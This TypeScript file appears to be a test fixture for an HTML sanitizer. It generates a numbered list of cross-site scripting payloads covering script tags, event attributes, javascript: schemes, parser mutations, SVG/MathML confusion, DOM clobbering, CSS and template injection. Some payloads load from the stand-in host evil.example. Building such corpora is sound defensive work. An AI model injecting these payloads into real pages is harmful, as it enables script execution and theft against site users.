/** Kinds of attack on text that becomes HTML. */
type XssKind =
  | 'tag'
  | 'attribute'
  | 'scheme'
  | 'mutation'
  | 'svg'
  | 'mathml'
  | 'namespace'
  | 'clobbering'
  | 'css'
  | 'template'

/** One attack. In `html` it calls `xss(n)`, or asks `https://evil.example/n` for something, with its own number. */
export interface XssVector {
  kind: XssKind
  number: number
  html: string
}

/** Where attacks load from; nothing may ever ask it. */
export const EVIL_ORIGIN = 'https://evil.example'
/** Name that the attacks by `id` and `name` put on the document. */
export const CLOBBERED = 'xssClobbered'

const JS = '~js~'
const URL = '~url~'
const IMG = `<img src=x onerror=${JS}>`

const tags = [
  `<script>${JS}</script>`,
  `<ScRiPt>${JS}</sCrIpT>`,
  `<script\n>${JS}</script\n>`,
  `<script/x>${JS}</script>`,
  `<script src=${URL}></script>`,
  `<<script>${JS}//<</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<object data=${URL}></object>`,
  `<embed src=${URL}>`,
  `<iframe src=${URL}></iframe>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${JS}&gt;"></iframe>`,
  `<frameset onload=${JS}><frame src=${URL}></frameset>`,
  `<base href=${URL}/><img src=a>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<link rel=stylesheet href=${URL}>`,
  `<link rel=preload as=image href=${URL}>`,
  `<video src=${URL} autoplay></video>`,
  `<audio src=${URL} autoplay></audio>`,
  `<video poster=${URL}></video>`,
  `<picture><source srcset=${URL}><img src=x></picture>`,
  `<img srcset="${URL} 1x">`,
  `<img src=${URL}>`,
  `<input type=image src=${URL}>`,
  `<form action=${URL}><input name=a><button>Go</button></form>`,
  `<dialog open onclose=${JS}><button autofocus onfocus=${JS}>`,
  `<keygen autofocus onfocus=${JS}>`,
  `<isindex type=image src=1 onerror=${JS}>`,
  `<portal src=${URL}></portal>`,
  `<x onclick=${JS} tabindex=1 autofocus onfocus=${JS}>`,
]

/** Elements which start something by themselves, and what they start. */
const selfFiring: readonly (readonly [element: string, rest: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocusin'],
  ['details', 'open', 'ontoggle'],
  ['iframe', '', 'onload'],
  ['marquee', 'loop=1 width=0', 'onstart'],
  ['style', '', 'onload'],
  ['body', '', 'onload'],
  ['a', 'href=# tabindex=0 autofocus', 'onfocus'],
  ['p', 'tabindex=0 autofocus contenteditable', 'onfocus'],
  ['object', 'data=x', 'onerror'],
]
/** Ways to write the same attribute that a filter of text would not know. */
const spellings: readonly ((element: string, rest: string, event: string) => string)[] = [
  (element, rest, event) => `<${element} ${rest} ${event}=${JS}>`,
  (element, rest, event) => `<${element} ${rest} ${event}="${JS}"></${element}>`,
  (element, rest, event) => `<${element.toUpperCase()} ${rest} ${event.toUpperCase()}='${JS}'>`,
  (element, rest, event) => `<${element}/${event}=${JS} ${rest}>`,
  (element, rest, event) => `<${element}\n${rest}\n${event}\n=\n${JS}>`,
  (element, rest, event) => `<${element}\t${rest}\f${event}=&#x78;ss(~n~)>`,
  (element, rest, event) => `<${element} ${rest} x="><" ${event}=${JS} y=">`.concat('"'),
  (element, rest, event) => `<p title='<'>"><${element} ${rest} ${event}=${JS}//`,
]
const attributes = selfFiring.flatMap((one) => spellings.map((spell) => spell(...one)))

const schemes = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `&#1;javascript:${JS}`,
  ` &#14; javascript:${JS}`,
  `&#106;avascript:${JS}`,
  `javascript&colon;${JS}`,
  `javascript:${JS}//https://site.example`,
  `javascript://site.example/%0a${JS}`,
  `data:text/html,<script>parent.${JS}</script>`,
  `vbscript:${JS}`,
]
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<map><area shape=default href="${address}"></map>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
]
const addresses = schemes.flatMap((address) => carriers.map((carry) => carry(address)))

/** Elements whose content is text to one parser and markup to another. */
const rawTexts = [
  'style',
  'title',
  'textarea',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'script',
  'template',
]
const breakOuts: readonly ((raw: string) => string)[] = [
  (raw) => `<${raw}><p title="</${raw}>${IMG}">`,
  (raw) => `<${raw}><!--</${raw}>${IMG}-->`,
  (raw) => `<p><${raw}></p></${raw}>${IMG}`,
  (raw) => `<table><${raw}><td></${raw}>${IMG}</table>`,
]
const mutations = [
  ...rawTexts.flatMap((raw) => breakOuts.map((breakOut) => breakOut(raw))),
  `<!--><p>${IMG}-->`,
  `<!--!>${IMG}-->`,
  `<!---->${IMG}<!-- -->`,
  `<![CDATA[>${IMG}]]>`,
  `<?xml >${IMG}?>`,
  `<plaintext>${IMG}`,
  `<listing>&lt;img src=x onerror=${JS}&gt;</listing>`,
  `<p title="&quot;>${IMG}">`,
  `<a title='</a>${IMG}'>x</a>`,
  `<b a=\`${IMG}\`>`,
]

const svg = [
  `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href=data:,${JS} /></svg>`,
  `<svg><script xlink:href=${URL} /></svg>`,
  `<svg><image href=x onerror=${JS} /></svg>`,
  `<svg><image href=${URL} /></svg>`,
  `<svg><use href="${URL}#a" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' onload='${JS}'/>#a" /></svg>`,
  `<svg><feImage href=${URL} /></svg>`,
  ...['animate', 'set', 'animateTransform', 'animateMotion'].flatMap((element) => [
    `<svg><${element} onbegin=${JS} attributeName=x dur=1s>`,
    `<svg><${element} onend=${JS} attributeName=x dur=1ms>`,
    `<svg><a id=a><text>x</text><${element} attributeName=href values="javascript:${JS}" /></a></svg>`,
  ]),
  `<svg><style>@import "${URL}";</style></svg>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><title>${IMG}</title></svg>`,
  `<svg><desc>${IMG}</desc></svg>`,
]

const mathml = [
  `<math><mtext>${IMG}</mtext></math>`,
  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${JS}">x</maction></math>`,
  `<math><mi xlink:href="javascript:${JS}">x</mi></math>`,
  `<math><mi//xlink:href="data:x,<script>${JS}</script>">`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml">${IMG}</annotation-xml></semantics></math>`,
  `<math><mstyle href="javascript:${JS}"><mtext>x</mtext></mstyle></math>`,
]

/** Places where HTML may stand again inside foreign content, and what stands there to confuse the second parse. */
const integration = [
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><ms>', '</ms></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg></p>', '</svg>'],
] as const
const confusers = [
  `<style><a title="</style>${IMG}">`,
  `<mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${JS}&gt;">`,
  `<malignmark><noscript><p title="</noscript>${IMG}">`,
  `<table><mglyph><style><math>${IMG}</math></style></mglyph></table>`,
  `<form></form><form><mglyph><svg><mtext><style><path id="</style>${IMG}">`,
  `<a><table><a></table></a><xmp><p title="</xmp>${IMG}">`,
]
const namespaces = integration.flatMap(([open, close]) => confusers.map((confuse) => open + confuse + close))

const shadowed = [CLOBBERED, 'body', 'cookie', 'currentScript', 'attributes', 'parentNode', 'firstChild', 'nodeName']
const clobberings = shadowed.flatMap((name) => [
  `<form name=${name}><input name=${CLOBBERED}></form>${IMG}`,
  `<img name=${name} src=x onerror=${JS}>`,
  `<form><input name=${name}><input id=${CLOBBERED}>${IMG}</form>`,
  `<iframe name=${name} srcdoc="<img src=x onerror=parent.${JS}>"></iframe>`,
  `<a id=${name} name=${CLOBBERED} href="javascript:${JS}">x</a>`,
])

const css = [
  `<style>@import url(${URL});</style>`,
  `<style>body{background:url(${URL})}</style>`,
  `<style>@font-face{font-family:a;src:url(${URL})}*{font-family:a!important}</style>`,
  `<p style="background:url(${URL})">x</p>`,
  `<p style="background:url('javascript:${JS}')">x</p>`,
  `<p style="list-style-image:url(${URL});display:list-item">x</p>`,
  `<p style="content:url(${URL})">x</p>`,
  `<p style="border-image:url(${URL}) 1">x</p>`,
  `<p style="cursor:url(${URL}),auto">x</p>`,
  `<p style="width:expression(${JS})">x</p>`,
  `<p style="behavior:url(${URL})">x</p>`,
  `<p style="-moz-binding:url(${URL})">x</p>`,
  `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend=${JS}>x</p>`,
  `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart=${JS}>x</p>`,
  `<p style="transition:all 1ms" ontransitionrun=${JS}>x</p>`,
  `<table background=${URL}><tr><td background=${URL}>x</table>`,
  `<body background=${URL}>`,
]

const templates = [
  `<template><script>${JS}</script></template>`,
  `<template>${IMG}</template>`,
  `<template><template>${IMG}</template></template>`,
  `<div><template shadowrootmode=open>${IMG}</template></div>`,
  `<div><template shadowroot=open>${IMG}</template></div>`,
  `<slot name=a>${IMG}</slot>`,
  `{{constructor.constructor('${JS}')()}}${IMG}`,
  `<div ng-app>{{$on.constructor('${JS}')()}}</div>`,
  `<div v-html="'${IMG}'"></div>`,
  `<div x-data x-init="${JS}"></div>`,
  `<div data-bind="html: ${JS}"></div>`,
  `\${${JS}}${IMG}`,
  `<%= ${JS} %>${IMG}`,
]

const all: Record<XssKind, readonly string[]> = {
  tag: tags,
  attribute: attributes,
  scheme: addresses,
  mutation: mutations,
  svg,
  mathml,
  namespace: namespaces,
  clobbering: clobberings,
  css,
  template: templates,
}

/** Every attack, numbered; text that an operator's page might be made to show. */
export const xssVectors: readonly XssVector[] = Object.entries(all)
  .flatMap(([kind, list]) => list.map((html) => ({ kind: kind as XssKind, html })))
  .map(({ kind, html }, number) => ({ kind, number, html: withNumber(html, number) }))

function withNumber(html: string, number: number): string {
  return html
    .replaceAll(JS, `xss(${number})`)
    .replaceAll(URL, `${EVIL_ORIGIN}/${number}`)
    .replaceAll('~n~', String(number))
}
